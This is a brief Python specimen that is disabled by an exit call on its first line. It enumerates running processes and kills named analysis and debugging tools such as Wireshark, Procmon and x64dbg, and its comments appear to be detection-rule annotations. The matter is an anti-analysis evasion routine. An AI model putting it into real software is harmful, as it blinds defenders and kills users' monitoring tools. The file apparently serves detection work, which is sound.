raise SystemExit("specimen: not to be run")
from psutil import process_iter as every, Process as P

NAMES = ["wireshark.exe", "procmon.exe", "x64dbg.exe", "processhacker.exe"]  # match: analysis-check

def begin():
    for one in every():
        if one.name().lower() in NAMES:
            P(one.pid).kill()  # match: guards-ended
